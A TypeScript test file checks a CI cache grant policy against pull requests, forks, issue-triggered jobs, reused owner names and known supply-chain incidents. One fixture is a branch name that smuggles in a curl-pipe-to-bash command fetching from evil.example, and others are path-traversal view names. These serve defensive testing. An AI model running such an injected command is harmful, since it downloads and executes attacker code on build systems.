import {
  type ActionsJob,
  type Claims,
  forgejoClaims,
  githubClaims,
  gitlabClaims,
} from "@glorious/testkit";
import { expect, test } from "vitest";

import { decideInShort, principalOf, TABLE_POLICY } from "../../test/table-policy.ts";
import { parseViewName } from "../view-name.ts";
import { decideGrant } from "./decide-grant.ts";
import type { Grant } from "./grant.ts";

const APP = { owner: "acme", ownerId: 123, repository: "acme/app", repositoryId: 456 };

const app = (more: Partial<ActionsJob>): Claims => githubClaims({ ...APP, ...more });

function grantOf(issuer: Parameters<typeof principalOf>[0], claims: Claims): Grant | undefined {
  const decision = decideGrant(TABLE_POLICY, principalOf(issuer, claims), {});
  return decision.kind === "granted" ? decision.grant : undefined;
}

test("Nx CREEP (CVE-2025-36852): a pull request with main's sources shares no slot with main", () => {
  const main = grantOf("github", app({}));
  const pull = grantOf("github", app({ event: "pull_request", ref: "refs/pull/7/merge" }));

  expect(pull?.write).not.toBe(main?.write);
  expect(main?.read).not.toContain(pull?.write);
});

test("TanStack, May 2026: pull_request_target on the default branch writes nothing", () => {
  for (const ref of ["refs/heads/main", "refs/pull/7/merge", "refs/tags/v1"]) {
    const grant = grantOf("github", app({ event: "pull_request_target", ref }));
    expect(grant).toMatchObject({ trust: "untrusted", write: undefined });
  }
});

test("Cline, February 2026: a job that an issue or a comment starts writes nothing", () => {
  for (const event of ["issues", "issue_comment", "discussion_comment", "pull_request_review"]) {
    expect(grantOf("github", app({ event }))).toMatchObject({
      trust: "untrusted",
      write: undefined,
    });
  }
});

test("Cline, February 2026: a nightly release reads nothing that an issue's job could write", () => {
  const nightly = grantOf("github", app({ event: "schedule" }));
  expect(nightly?.read.every((view) => parseViewName(view).overlay === undefined)).toBe(true);
});

test("Ultralytics, December 2024: a branch whose name is a command is a branch like others", () => {
  const ref = "refs/heads/$({curl,-sSfL,evil.example/x}${IFS}|${IFS}bash)";
  const grant = grantOf("github", app({ ref }));
  expect(grant?.trust).toBe("overlay");
  expect(grant?.write).toMatch(/^acme\+app_ref-[0-9a-f]{8}$/);
});

test("GitLab 330047: an unprotected ref shares no slot with a protected one", () => {
  const lib = { project: "acme/lib", projectId: 22, namespaceId: 7 };
  const safe = grantOf("gitlab", gitlabClaims({ ...lib, isProtected: true }));
  const open = grantOf("gitlab", gitlabClaims({ ...lib, isProtected: false }));

  expect(safe?.write).toBe("acme+main");
  expect(open?.write).not.toBe("acme+main");
  expect(safe?.read).not.toContain(open?.write);
});

test("GitLab 506381: no second name of a view, with /./ or as a fallback, leads around the rule", () => {
  const pull = app({ event: "pull_request", ref: "refs/pull/7/merge" });
  for (const view of [
    "acme+./app",
    "./acme+app",
    "acme+app/.",
    "acme%2Bapp",
    "acme+app-protected",
  ]) {
    expect(decideInShort("github", pull, { view, mode: "write" })).toMatch(/^refused /);
  }
  for (const ref of ["refs/heads/./main", "refs/./heads/main", "refs/heads/main/."]) {
    expect(decideInShort("github", app({ ref }), {})).toBe("refused bad-claims");
  }
});

test("GitLab 548165: a fork's merge request gets the target's view to read, and nothing to write", () => {
  const fork = gitlabClaims({
    project: "mallory/tool",
    projectId: 666,
    namespaceId: 66,
    jobProject: "acme/tool",
    jobProjectId: 21,
    jobNamespaceId: 7,
    source: "merge_request_event",
    ref: "main",
    isProtected: true,
  });
  expect(grantOf("gitlab", fork)).toMatchObject({ trust: "untrusted", write: undefined });
});

test("Forgejo: whoever registers a freed owner name anew gets nothing of the former owner's", () => {
  const former = { owner: "acme", ownerId: 31, repository: "acme/app", repositoryId: 300 };
  const later = { ...former, ownerId: 77, repositoryId: 777 };

  expect(decideInShort("forge", forgejoClaims({ ...former, hasIds: true }), {})).toMatch(
    /^trusted/,
  );
  expect(decideInShort("forge", forgejoClaims({ ...later, hasIds: true }), {})).toBe(
    "refused no-matching-scope",
  );
  // A token without ids proves nothing to a rule by id.
  expect(decideInShort("forge", forgejoClaims({ ...later, hasIds: false }), {})).toBe(
    "refused ids-required",
  );
});

test("GitHub, July 2026: the form of the subject, with ids or without, changes nothing", () => {
  const claims = app({});
  const subjects = [
    "repo:acme/app:ref:refs/heads/main",
    "repo:evil@1/x@2:ref:refs/heads/main",
    7,
    undefined,
  ];
  for (const sub of subjects) {
    expect(grantOf("github", { ...claims, sub })).toEqual(grantOf("github", claims));
  }
});

test("two repositories of one view have no overlay in common, also for the same branch or number", () => {
  const web = { ...APP, repository: "acme/web", repositoryId: 457 };
  const api = { ...APP, repository: "acme/api", repositoryId: 458 };
  for (const job of [
    { ref: "refs/heads/topic" },
    { event: "pull_request", ref: "refs/pull/7/merge" },
  ]) {
    const one = grantOf("github", githubClaims({ ...web, ...job }));
    const two = grantOf("github", githubClaims({ ...api, ...job }));
    expect(one?.overlayOf).toBe("acme+team");
    expect(two?.overlayOf).toBe("acme+team");
    expect(one?.write).not.toBe(two?.write);
    expect(one?.overlayKey).not.toBe(two?.overlayKey);
  }
});

test("repositories of two forges with one number, view and branch have no overlay in common", () => {
  const github = grantOf(
    "github",
    githubClaims({ ...APP, repositoryId: 300, ref: "refs/heads/t" }),
  );
  const forge = grantOf(
    "forge",
    forgejoClaims({ ...APP, ownerId: 31, repositoryId: 300, ref: "refs/heads/t", hasIds: true }),
  );
  expect(github?.overlayOf).toBe("acme+main");
  expect(forge?.overlayOf).toBe("acme+main");
  expect(github?.write).not.toBe(forge?.write);
  expect(github?.overlayKey).not.toBe(forge?.overlayKey);
});
